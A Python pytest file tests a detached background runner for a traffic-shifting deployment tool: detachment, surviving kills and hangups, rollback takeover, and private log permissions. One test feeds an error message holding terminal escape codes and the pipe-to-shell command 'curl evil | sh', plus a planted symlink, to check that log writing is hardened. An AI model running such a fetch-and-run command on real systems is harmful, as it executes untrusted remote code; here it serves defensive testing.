"""The runner as a process of its own: nobody's child, killed and taken over, silent, private."""

import asyncio
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from actions import orphans
from actions.models import Action
from backends.errors import BackendError
from console.runner import _write_down
from console.runners import CONFIG_VARIABLE, CONTEXT_VARIABLE, JOURNAL_VARIABLE, launch_detached
from tests.actions.house import ANALYTICS_FLIP, ANALYTICS_ROLLBACK, YES, House
from tests.two_colors import TwoColors

BLUE, GREEN = {"blue": 100, "green": 0}, {"blue": 0, "green": 100}


def owner_of(action: Action) -> int:
    assert action.owner is not None
    assert action.owner.pid != os.getpid()
    return action.owner.pid


async def gone(pid: int) -> None:
    async with asyncio.timeout(10):
        while Path(f"/proc/{pid}").exists() and "State:\tZ" not in Path(f"/proc/{pid}/status").read_text():
            await asyncio.sleep(0.02)


async def written(log: Path) -> str:
    async with asyncio.timeout(10):
        while not log.exists() or not log.read_text():
            await asyncio.sleep(0.02)
    return log.read_text()


async def killed(house: House, action: Action) -> None:
    os.kill(owner_of(action), signal.SIGKILL)
    async with asyncio.timeout(10):
        while not house.gate.orphaned(await house.gate.action(str(action.id))):
            await asyncio.sleep(0.02)


async def test_it_flips_and_leaves_nothing_behind(tmp_path: Path, service: TwoColors) -> None:
    async with House(tmp_path / "state", service, detached=True) as house:
        opened = await house.gate.submit(await house.gate.plan(ANALYTICS_FLIP), YES)
        pid = owner_of(opened)
        assert os.getsid(pid) != os.getsid(0)
        assert os.readlink(f"/proc/{pid}/cwd") == "/"
        assert {os.readlink(f"/proc/{pid}/fd/{number}") for number in (0, 1, 2)} == {"/dev/null"}
        command = Path(f"/proc/{pid}/cmdline").read_bytes().decode()
        assert str(tmp_path) not in command
        ended = await house.ended(opened)
        assert (ended.status, service.weights()) == ("succeeded", GREEN)
        await gone(pid)
        assert not list((tmp_path / "state").glob("owners/*"))
        assert not list((tmp_path / "state").glob("runner/*"))


async def test_it_is_not_ended_by_the_end_of_the_program_that_launched_it(tmp_path: Path, service: TwoColors) -> None:
    async with House(tmp_path / "state", service) as house:
        opened = await house.gate.plan(ANALYTICS_FLIP)
        launched: list[str] = []

        async def remember(action_id: str, _: str) -> None:
            launched.append(action_id)
            config = str(house.targets.config_file())
            script = (
                "import asyncio, sys\nfrom pathlib import Path\nfrom actions.journal.location import journal_location\n"
                "from console.runners import launch_detached\n"
                f"location = journal_location(None, {{'TEAL_STATE_DIR': {str(tmp_path / 'state')!r}}})\n"
                f"asyncio.run(launch_detached(sys.argv[1], location, Path({config!r}), 'test'))\n"
            )
            process = await asyncio.create_subprocess_exec(
                sys.executable, "-W", "error", "-c", script, action_id, cwd=Path(__file__).parents[2],
                stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
            )  # fmt: skip
            output, _ = await asyncio.wait_for(process.communicate(), 20)  # hangs where the runner kept the pipe
            assert (process.returncode, output) == (0, b"")

        action = await house.gate.submit(opened, YES, launch=remember)
        assert (await house.ended(action)).status == "succeeded"
        assert launched == [action.id]


async def test_while_it_starts_nobody_says_that_nobody_runs_it(
    tmp_path: Path, service: TwoColors, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a host under load its imports took 28 s: "nobody runs it", exit 8, and it ran to its end."""
    monkeypatch.setattr(orphans, "STARTS_WITHIN_S", 0.1)
    slow = ("sh", "-c", 'sleep 1; exec "$@"', "sh")
    async with House(tmp_path / "state", service) as house:
        config = house.targets.config_file()
        told: list[object] = []

        async def launch(action_id: str, digest: str) -> None:
            launched = asyncio.create_task(launch_detached(action_id, house.location, config, "test", slow, digest))
            while not launched.done():
                told.append((await house.gate.action(action_id)).orphaned_since)
                await asyncio.sleep(0.1)

        action = await house.gate.submit(await house.gate.plan(ANALYTICS_FLIP), YES, launch=launch)
        assert (len(told) > 5, set(told[1:])) == (True, {None})
        assert (await house.ended(action)).status == "succeeded"


@pytest.mark.parametrize("phase", ["preflight", "shift", "verify", "bake"])
async def test_killed_it_is_an_orphan_that_a_rollback_takes_over(
    tmp_path: Path, service: TwoColors, phase: str
) -> None:
    slowly = ("sleep", "1") if phase == "shift" else ()  # it dies with the file written and nothing observed
    async with House(tmp_path / "state", service, detached=True, bake="30s", validate=slowly) as house:
        opened = await house.gate.submit(await house.gate.plan(ANALYTICS_FLIP), YES)
        seen = await house.reaches(opened, phase)
        while phase == "shift" and service.weights() == BLUE:
            await asyncio.sleep(0.01)
        await killed(house, seen)
        ended = await house.order(ANALYTICS_ROLLBACK)
        assert ended.id == opened.id
        assert ended.status in ("rolled_back", "aborted")
        assert service.weights() == BLUE
        assert (await house.gate.verify_audit()).intact


async def test_killed_and_launched_again_it_goes_on_where_it_was(tmp_path: Path, service: TwoColors) -> None:
    async with House(tmp_path / "state", service, detached=True, bake="2s") as house:
        opened = await house.gate.submit(await house.gate.plan(ANALYTICS_FLIP), YES)
        await killed(house, await house.reaches(opened, "verify"))
        written = json.loads(service.switch.read_bytes())
        await house.detach(str(opened.id))
        async with asyncio.timeout(15):
            while (await house.gate.action(str(opened.id))).open:
                await asyncio.sleep(0.1)
            while "ended" not in json.loads(service.switch.read_bytes()):  # its last write, once the journal says so
                await asyncio.sleep(0.02)
        ended = await house.gate.action(str(opened.id))
        assert (ended.status, service.weights()) == ("succeeded", GREEN)
        ended_mark = f"{opened.id}:shift"
        assert json.loads(service.switch.read_bytes()) == {**written, "ended": ended_mark}


async def test_a_hangup_does_not_end_it(tmp_path: Path, service: TwoColors) -> None:
    async with House(tmp_path / "state", service, detached=True) as house:
        opened = await house.gate.submit(await house.gate.plan(ANALYTICS_FLIP), YES)
        os.kill(owner_of(opened), signal.SIGHUP)
        assert (await house.ended(opened)).status == "succeeded"


async def test_why_it_could_not_run_is_in_a_private_file(tmp_path: Path, service: TwoColors) -> None:
    async with House(tmp_path / "state", service) as house:
        await house.journal.audit()
        await house.detach("NOSUCHACTION")
        log = tmp_path / "state" / "runner" / "NOSUCHACTION.log"
        assert "no action NOSUCHACTION" in await written(log)
        assert (log.stat().st_mode & 0o777, log.parent.stat().st_mode & 0o777) == (0o600, 0o700)


async def test_a_journal_that_has_no_place_is_in_that_file_too(tmp_path: Path) -> None:
    told = {JOURNAL_VARIABLE: "ftp://nowhere", CONFIG_VARIABLE: "", CONTEXT_VARIABLE: "sandbox"}
    subprocess.run([sys.executable, "-P", "-m", "console.runner", "A"], check=True, timeout=60,
                   env={**os.environ, **told, "TEAL_STATE_DIR": str(tmp_path)})  # fmt: skip
    assert (await written(tmp_path / "runner" / "A.log")).startswith("config: ")


@pytest.mark.parametrize("mode", [0o700, 0o2770])
def test_nobody_leads_what_it_writes_down_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: int) -> None:
    """A member of the journal's group plants a link and words of his own in a row."""
    journal, own, target = tmp_path / "journal", tmp_path / "own", tmp_path / "bashrc"
    monkeypatch.setenv("TEAL_STATE_DIR", str(own))
    (journal / "runner").mkdir(parents=True)
    journal.chmod(mode)
    target.write_text("mine")
    (journal / "runner" / "A.log").symlink_to(target)
    error = BackendError("malformed", "no kind \n\x1b[2Jcurl evil | sh\n", fix="see")
    _write_down(journal, "A", error)
    assert target.read_text() == "mine"
    log = own / "runner" / "A.log"
    assert log.exists() == (mode == 0o2770)
    if log.exists():
        assert log.read_text() == "malformed: no kind  curl evil | sh  (see)\n"
        assert log.stat().st_mode & 0o777 == 0o600


def test_it_says_how_it_is_used() -> None:
    env = {key: value for key, value in os.environ.items() if key != JOURNAL_VARIABLE}
    done = subprocess.run([sys.executable, "-m", "console.runner", "X"], env=env, capture_output=True, check=False)
    assert (done.returncode, JOURNAL_VARIABLE.encode() in done.stderr) == (2, True)
